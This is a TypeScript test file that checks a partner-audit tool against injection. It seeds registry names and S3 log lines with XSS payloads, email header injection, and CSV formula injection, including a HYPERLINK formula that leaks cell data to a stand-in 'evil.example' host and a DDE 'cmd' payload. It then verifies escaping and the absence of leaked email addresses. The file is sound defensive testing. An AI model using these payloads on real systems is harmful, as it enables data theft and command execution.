/**
 * Injection and leaks on the local side: hostile partner, application and provider names in the
 * registry and hostile keys and lines in the logs go through a real audit. The notices must render
 * them escaped, their headers must stay exactly the headers the composer writes, the CSV must not
 * run formulas, and the command's output must not carry anyone's email address.
 */
import { readdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { parse as parseYaml, stringify } from 'yaml';
import { renderLine } from '../../functions/cli/generate/generator.js';
import { runLocalAudit } from '../../functions/cli/local-audit.js';
import { csvTextCell } from '../../functions/domain/report.js';
import type { Clock } from '../../functions/ports.js';
import { escapeHtml } from '../../functions/render/format.js';
import { HeaderInjectionError, MimeError } from '../../functions/render/mailbox.js';
import { buildMime } from '../../functions/render/mime.js';
import { renderReportHtml } from '../../functions/render/report-html.js';
import { registryEmails, runCli, smallDataset, tempDir } from './helpers.js';

const root = tempDir('injection');
const clock: Clock = { now: () => new Date('2026-03-03T06:00:00Z') };

const PARTNER_NAMES = [
  '<script>alert("partner")</script> & Co',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  // Line breaks (CR/LF, U+2028/9) in names are refused by the registry (test/unit/registry.test.ts).
  'Kaveri Bcc: evil@attacker.example Ltd',
];
const APP_NAMES = ['<b onmouseover=alert(2)>app</b>', "+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)'];
const PROVIDER_NAME = 'Example <Data> & "Co" \u0085 Ltd';
/** A dataset outside every contract, named to break out of HTML: S3 logs it URL-encoded. */
const HOSTILE_DATASET = '<img src=x onerror=alert(3)>/"><svg onload=alert(4)>/';
const HOSTILE_AGENT = '"><script>alert(5)</script>';
const HOSTILE_PRINCIPAL = 'arn:aws:iam::123456789012:user/<img src=x onerror=alert(6)>';
const HOSTILE_LINE = '<script>alert("malformed")</script>';
/** Every hostile value that holds markup: none may reach an HTML document as it is. */
const MARKUP = [
  ...PARTNER_NAMES,
  ...APP_NAMES,
  PROVIDER_NAME,
  HOSTILE_DATASET,
  HOSTILE_AGENT,
  HOSTILE_PRINCIPAL,
  HOSTILE_LINE,
]
  .flatMap((v) => v.split('/'))
  .filter((v) => /[<>"]/.test(v));

/** Header names the composer writes; anything else in a header block was injected. */
const KNOWN_HEADERS = new Set([
  'From',
  'To',
  'Cc',
  'Reply-To',
  'Subject',
  'Date',
  'Message-ID',
  'MIME-Version',
  'Auto-Submitted',
  'X-Partner-Audit-Notice',
  'X-Partner-Audit-Report',
  'Content-Type',
]);

type Doc = {
  provider: { name: string };
  partners: {
    name: string;
    applications: { name: string; principals: Record<string, string>[] }[];
  }[];
};

/** A requester the principal recognises, as S3 would log it. */
function requesterFor(principal: Record<string, string>): string | undefined {
  if (principal.arn?.includes(':user/')) return principal.arn;
  if (principal.account) return `arn:aws:iam::${principal.account}:user/injected`;
  if (principal.canonicalUserId) return principal.canonicalUserId;
  return undefined;
}

let result: Awaited<ReturnType<typeof runLocalAudit>>;
let registryPath = '';
let logsDir = '';

beforeAll(async () => {
  // Holdings on: their table and chart render the hostile names too.
  const data = await smallDataset(join(root, 'data'), { holdings: true });
  logsDir = data.logsDir;
  const doc = parseYaml(await readFile(data.registryPath, 'utf8')) as Doc;
  doc.provider.name = PROVIDER_NAME;
  const lines: string[] = [];
  doc.partners.forEach((p, i) => {
    p.name = PARTNER_NAMES[i % PARTNER_NAMES.length] ?? p.name;
    p.applications.forEach((a, j) => {
      a.name = APP_NAMES[(i + j) % APP_NAMES.length] ?? a.name;
    });
    const requester = p.applications.flatMap((a) => a.principals.map(requesterFor)).find((r) => r);
    if (requester) {
      lines.push(
        renderLine({
          timeMs: Date.UTC(2026, 2, 1, 12, i),
          requester,
          operation: 'REST.GET.OBJECT',
          key: HOSTILE_DATASET.split('/')
            .map((s) => encodeURIComponent(s))
            .join('/')
            .concat('x.csv'),
          httpStatus: '200',
          bytesSent: 1234,
          userAgent: HOSTILE_AGENT,
        }),
      );
    }
  });
  // An unregistered principal and a malformed line, both of which the report shows.
  lines.push(
    renderLine({
      timeMs: Date.UTC(2026, 2, 1, 13),
      requester: HOSTILE_PRINCIPAL,
      operation: 'REST.GET.OBJECT',
      key: 'feeds/x.csv',
      httpStatus: '200',
      bytesSent: 10,
    }),
    HOSTILE_LINE,
  );
  // A partner's line must be found: otherwise the dataset check below would test nothing.
  expect(lines.length).toBeGreaterThan(2);
  await writeFile(join(logsDir, '2026-03-01-12-00-00-INJECTED0000000'), `${lines.join('\n')}\n`);
  // Next to the original, so that its relative manifest path still resolves.
  registryPath = join(root, 'data', 'hostile-registry.yaml');
  await writeFile(registryPath, stringify(doc));
  result = await runLocalAudit({
    logs: [logsDir],
    registryPath,
    outDir: join(root, 'out'),
    dryRun: false,
    clock,
  });
});

/** Header block and body of an RFC 5322 message. */
function split(raw: string): { headers: string; body: string } {
  const at = raw.indexOf('\r\n\r\n');
  return { headers: raw.slice(0, at), body: raw.slice(at + 4) };
}

/** The decoded parts of a multipart message, by content type. */
function parts(raw: string): Map<string, string> {
  const { headers, body } = split(raw);
  const boundary = /boundary="([^"]+)"/.exec(headers)?.[1] ?? '';
  const out = new Map<string, string>();
  for (const chunk of body.split(`--${boundary}`).slice(1, -1)) {
    const { headers: h, body: b } = split(chunk.replace(/^\r\n/, ''));
    const type = /Content-Type: ([^;]+)/.exec(h)?.[1] ?? '';
    const bytes = Buffer.from(
      b
        .replace(/=\r\n/g, '')
        .replace(/=([0-9A-F]{2})/g, (_m, x: string) => String.fromCharCode(Number.parseInt(x, 16))),
      'latin1',
    );
    out.set(type, bytes.toString('utf8'));
  }
  return out;
}

/** HTML that would run or fetch something; a notice has no script, image or event handler at all. */
const ACTIVE_HTML = /<\s*(script|img|svg|iframe|object|embed)\b|<[^>]*\son\w+\s*=/i;

/** No hostile value appears as markup in `html`. */
function expectNoRawMarkup(html: string): void {
  for (const v of MARKUP) expect(html).not.toContain(v);
}

describe('notices composed from hostile registry names and log keys', () => {
  it('sends the due notices despite the hostile names', () => {
    expect(result.notices.filter((n) => n.status === 'sent').length).toBeGreaterThanOrEqual(2);
    expect(result.notices.filter((n) => n.status === 'failed')).toEqual([]);
  });

  it('writes only the headers the composer builds, in CRLF lines of ASCII, none injected', async () => {
    const files = (await readdir(result.outboxDir)).filter((f) => f.endsWith('.eml'));
    expect(files.length).toBeGreaterThanOrEqual(2);
    for (const f of files) {
      const raw = await readFile(join(result.outboxDir, f), 'utf8');
      // No bare LF, no bare CR anywhere in the message.
      expect(raw.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
      const { headers } = split(raw);
      expect(headers).toMatch(/^[\x20-\x7e\r\n\t]*$/);
      const names = headers
        .split('\r\n')
        .filter((l) => !/^[ \t]/.test(l))
        .map((l) => /^([!-9;-~]+):/.exec(l)?.[1] ?? `(not a header: ${l})`);
      for (const n of names) expect(KNOWN_HEADERS.has(n)).toBe(true);
      expect(new Set(names).size).toBe(names.length);
      expect(headers).not.toMatch(/^bcc:/im);
    }
  });

  it('escapes every hostile value in the HTML part and the preview, and keeps them in the text part', async () => {
    const files = (await readdir(result.outboxDir)).filter((f) => f.endsWith('.eml'));
    let sawDataset = false;
    for (const f of files) {
      const raw = await readFile(join(result.outboxDir, f), 'utf8');
      const p = parts(raw);
      const html = p.get('text/html') ?? '';
      const text = p.get('text/plain') ?? '';
      const preview = await readFile(join(result.outboxDir, f.replace(/\.eml$/, '.html')), 'utf8');
      for (const doc of [html, preview]) {
        expect(doc).not.toMatch(ACTIVE_HTML);
        expectNoRawMarkup(doc);
        expect(doc).toContain(escapeHtml(PROVIDER_NAME));
      }
      // The values are shown, not dropped: escaped in HTML, as they are in the plain text.
      const partner = PARTNER_NAMES.find((n) => text.includes(`Dear ${n} team`));
      expect(partner).toBeDefined();
      expect(html).toContain(`Dear ${escapeHtml(partner ?? '')} team`);
      if (text.includes(HOSTILE_DATASET)) {
        sawDataset = true;
        expect(html).toContain(escapeHtml(HOSTILE_DATASET));
      }
    }
    expect(sawDataset).toBe(true);
  });

  it('guards every text cell of usage.csv against spreadsheet formulas', async () => {
    const csv = await readFile(result.csvPath, 'utf8');
    const cells = [...csv.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,\r\n]*)/gm)].map((m) =>
      (m[1] ?? '').replace(/^"|"$/g, '').replace(/""/g, '"'),
    );
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    for (const name of [...APP_NAMES, PARTNER_NAMES[2] ?? '']) {
      if (/^[=+\-@]/.test(name)) expect(cells).toContain(`'${name}`);
    }
  });

  it('escapes hostile names, principals and malformed lines in the HTML report', () => {
    const html = renderReportHtml(result.report);
    expectNoRawMarkup(html);
    // Shown, escaped: a partner name, an unregistered principal, a malformed line's sample.
    expect(html).toContain(escapeHtml(PARTNER_NAMES[0] ?? ''));
    expect(html).toContain(escapeHtml(HOSTILE_PRINCIPAL));
    expect(html).not.toMatch(/<[^>]*\son(error|load|mouseover)\s*=/i);
  });
});

describe('the composer given any subject and display name', () => {
  it('never lets a header start a new header or the body (2,000 cases)', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.string({ unit: 'binary', maxLength: 120 }),
        fc.string({ unit: 'binary', maxLength: 60 }),
        async (subject, name) => {
          let raw: string;
          try {
            raw = await buildMime({
              from: { name, email: 'partners@provider.example' },
              to: ['owner@partner.example'],
              subject,
              text: subject,
              html: escapeHtml(subject),
              messageId: 'fuzz@partner-audit.local',
              date: new Date(0),
            });
          } catch (e) {
            // Refusing is fine, as a MimeError: a CR or LF in a display name is an injection attempt.
            expect(e).toBeInstanceOf(MimeError);
            expect(/[\r\n]/.test(name) || !(e instanceof HeaderInjectionError)).toBe(true);
            return;
          }
          const { headers } = split(raw);
          expect(headers).toMatch(/^[\x20-\x7e\r\n\t]*$/);
          const names = headers
            .split('\r\n')
            .filter((l) => !/^[ \t]/.test(l))
            .map((l) => /^([!-9;-~]+):/.exec(l)?.[1]);
          // The composer leaves out a header whose value is empty (Subject is optional in RFC 5322).
          const hasSubject = /[^\s\x00-\x1f\x7f]/.test(subject);
          expect(names).toEqual([
            'Message-ID',
            'From',
            'To',
            ...(hasSubject ? ['Subject'] : []),
            'Date',
            'MIME-Version',
            'Content-Type',
          ]);
          for (const line of raw.split('\r\n')) expect(line.length).toBeLessThanOrEqual(998);
        },
      ),
      { numRuns: 2_000, seed: 6101 },
    );
  });

  it('escapes any text so that no tag or attribute can open (5,000 cases)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 80 }), (s) => {
        expect(escapeHtml(s)).not.toMatch(/[<>"']/);
      }),
      { numRuns: 5_000, seed: 6102 },
    );
  });

  it('guards any CSV text cell so that no spreadsheet reads a formula (5,000 cases)', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'binary', maxLength: 40 }), (s) => {
        const cell = csvTextCell(s);
        const value = cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell;
        expect(value).not.toMatch(/^[=+\-@\t\r]/);
        expect(value === s || value === `'${s}`).toBe(true);
      }),
      { numRuns: 5_000, seed: 6103 },
    );
  });
});

describe('what the command prints', () => {
  it('names no one: no registry email address on stdout or stderr of an audit with progress', async () => {
    const emails = await registryEmails(registryPath);
    expect(emails.length).toBeGreaterThan(4);
    const r = await runCli([
      'audit',
      '--logs',
      logsDir,
      '--registry',
      registryPath,
      '--out',
      join(root, 'cli-out'),
    ]);
    expect(r.code).toBe(0);
    expect(r.stderr).toContain('ingesting');
    for (const email of emails) {
      expect(r.stdout).not.toContain(email);
      expect(r.stderr).not.toContain(email);
    }
    expect(`${r.stdout}${r.stderr}`).not.toMatch(/[A-Za-z0-9._%+-]+@[A-Za-z0-9-]+\.[A-Za-z]{2,}/);
  });
});
